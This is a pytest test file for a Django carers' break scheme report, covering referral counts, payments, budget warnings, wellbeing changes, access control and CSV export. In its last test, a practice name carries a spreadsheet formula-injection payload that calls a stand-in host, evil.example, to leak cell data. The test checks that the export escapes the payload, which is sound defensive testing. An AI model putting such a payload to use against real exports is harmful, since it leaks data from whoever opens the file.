import csv
import io
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from coproduce.breaks import reports
from coproduce.breaks.models import (
    BreakPayment,
    Referral,
    ReferralStatus,
    WellbeingMoment,
    WellbeingResponse,
)
from coproduce.breaks.tests.factories import PracticeFactory
from coproduce.conftest import BreaksScheme, Member


def referral(
    breaks: BreaksScheme,
    status: str,
    *,
    name: str = "Ann Lee",
    days_ago: int = 40,
    amount: str | None = None,
) -> Referral:
    submitted = timezone.now() - timedelta(days=days_ago)
    made = Referral.objects.create(
        scheme=breaks.scheme,
        practice=breaks.practice,
        status=status,
        carer_name=name,
        carer_date_of_birth=date(1960, 1, 1),
        submitted_at=submitted,
        amount=Decimal(amount) if amount else None,
    )
    if status == ReferralStatus.PAID:
        BreakPayment.objects.create(
            referral=made,
            amount=Decimal(amount or "300"),
            method="voucher",
            paid_on=(submitted + timedelta(days=10)).date(),
            reference=f"R{made.pk}",
        )
    return made


def test_the_report_counts_referrals_approvals_payments_and_signed_up_practices(
    breaks: BreaksScheme,
) -> None:
    PracticeFactory.create(scheme=breaks.scheme, signed_up_at=None)
    paid = referral(breaks, ReferralStatus.PAID, amount="300")
    referral(breaks, ReferralStatus.PAID, amount="200", name="ann  lee")  # the same carer again
    referral(breaks, ReferralStatus.DECLINED, name="Bo Chan")
    referral(breaks, ReferralStatus.SUBMITTED, name="Cy Davies", days_ago=2)
    referral(breaks, ReferralStatus.DRAFT, name="Not sent")
    WellbeingResponse.objects.create(
        referral=paid,
        moment=WellbeingMoment.AT_REFERRAL,
        life_satisfaction=3,
        worthwhile=5,
        happiness=2,
        anxiety=8,
    )
    WellbeingResponse.objects.create(
        referral=paid,
        moment=WellbeingMoment.AFTER_BREAK,
        life_satisfaction=6,
        worthwhile=6,
        happiness=5,
        anxiety=5,
    )

    report = reports.build(breaks.scheme)
    assert report.referrals == 4
    assert report.decided == 3
    assert report.approved == 2
    assert report.approval_rate == pytest.approx(2 / 3)
    assert report.total_paid == Decimal("500.00")
    assert report.budget_left == breaks.scheme.budget - Decimal("500.00")
    assert report.median_days_to_payment == 10
    assert (report.practices_signed_up, report.practices_total) == (1, 2)
    assert report.repeat_carers == 1
    assert report.wellbeing_pairs == 1
    assert report.wellbeing_change == {
        "life_satisfaction": 3,
        "worthwhile": 1,
        "happiness": 3,
        "anxiety": -3,
    }
    assert sum(m.referrals for m in report.months) == 4


def test_the_report_page_shows_a_chart_with_its_data_table_and_a_csv(
    coordinator_client: Client, breaks: BreaksScheme
) -> None:
    referral(breaks, ReferralStatus.PAID, amount="300")
    html = coordinator_client.get(
        reverse("breaks:report", args=[breaks.scheme.pk])
    ).content.decode()
    assert 'role="img"' in html
    assert "Referrals, approvals and payments by month sent" in html
    assert "Riverside Surgery (H81001)" in html
    response = coordinator_client.get(reverse("breaks:report-csv", args=[breaks.scheme.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][0] == "section"
    assert ["practice", "Riverside Surgery", "H81001", "yes", "1", "", "1"] in rows


def test_other_organisations_cannot_see_a_schemes_figures(
    staff_b_client: Client, carer_client: Client, breaks: BreaksScheme
) -> None:
    assert staff_b_client.get(reverse("breaks:report", args=[breaks.scheme.pk])).status_code == 404
    assert (
        staff_b_client.get(reverse("breaks:report-csv", args=[breaks.scheme.pk])).status_code == 404
    )
    assert breaks.scheme.name not in staff_b_client.get(reverse("breaks:schemes")).content.decode()
    assert carer_client.get(reverse("breaks:report", args=[breaks.scheme.pk])).status_code == 403


@pytest.mark.parametrize("count", [2, 40])
def test_the_report_runs_a_fixed_number_of_queries(
    coordinator_client: Client, breaks: BreaksScheme, count: int, django_assert_num_queries: Any
) -> None:
    for n in range(count):
        referral(breaks, ReferralStatus.PAID, name=f"Carer {n}", days_ago=n * 7 + 1, amount="300")
    # session, user, membership, OTP device, scheme, months, practices, counts, payments, waits, carers, wellbeing
    with django_assert_num_queries(12):
        response = coordinator_client.get(reverse("breaks:report", args=[breaks.scheme.pk]))
    assert response.status_code == 200


def test_a_partner_organisation_sees_the_figures(breaks: BreaksScheme, surgery_org: Any) -> None:
    from coproduce.conftest import make_member, signed_in
    from coproduce.tenancy.models import Role

    partner_admin: Member = make_member(surgery_org, Role.ADMIN, "Pat Partner")
    client = signed_in(Client(), partner_admin.user)
    assert client.get(reverse("breaks:report", args=[breaks.scheme.pk])).status_code == 200


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (Decimal("324500"), "£324,500.00"),
        (Decimal("0.5"), "£0.50"),
        (Decimal("-174500"), "-£174,500.00"),
        (None, ""),
    ],
)
def test_money_is_shown_with_thousands_separators_and_pence(
    value: Decimal | None, shown: str
) -> None:
    from coproduce.jinja2 import money

    assert money(value) == shown


def test_the_report_warns_when_payments_made_and_approved_go_over_the_budget(
    coordinator_client: Client, breaks: BreaksScheme
) -> None:
    breaks.scheme.budget = Decimal("1000.00")
    breaks.scheme.save()
    referral(breaks, ReferralStatus.PAID, name="Carer A", amount="800")
    referral(breaks, ReferralStatus.APPROVED, name="Carer B", amount="450.50")

    html = coordinator_client.get(
        reverse("breaks:report", args=[breaks.scheme.pk])
    ).content.decode()

    assert "govuk-warning-text" in html
    assert "Payments are £250.50 over the budget" in html
    assert "£800.00 of a £1,000.00 budget" in html
    assert "-£" not in html


def test_the_report_shows_what_is_left_of_the_budget_without_a_warning(
    coordinator_client: Client, breaks: BreaksScheme
) -> None:
    referral(breaks, ReferralStatus.PAID, amount="300")
    referral(breaks, ReferralStatus.APPROVED, name="Bo Chan", amount="200")

    html = coordinator_client.get(
        reverse("breaks:report", args=[breaks.scheme.pk])
    ).content.decode()

    assert "govuk-warning-text" not in html
    assert "£300.00 of a £150,000.00 budget" in html
    assert "£149,500.00" in html


def test_a_practice_name_never_runs_as_a_formula_in_the_figures_csv(
    coordinator_client: Client, breaks: BreaksScheme
) -> None:
    breaks.practice.name = '=HYPERLINK("http://evil.example/?"&B2,"Surgery")'
    breaks.practice.save()
    referral(breaks, ReferralStatus.PAID, amount="300")
    response = coordinator_client.get(reverse("breaks:report-csv", args=[breaks.scheme.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = [row[1] for row in rows if row[0] == "practice"]
    assert names == ["'" + breaks.practice.name]
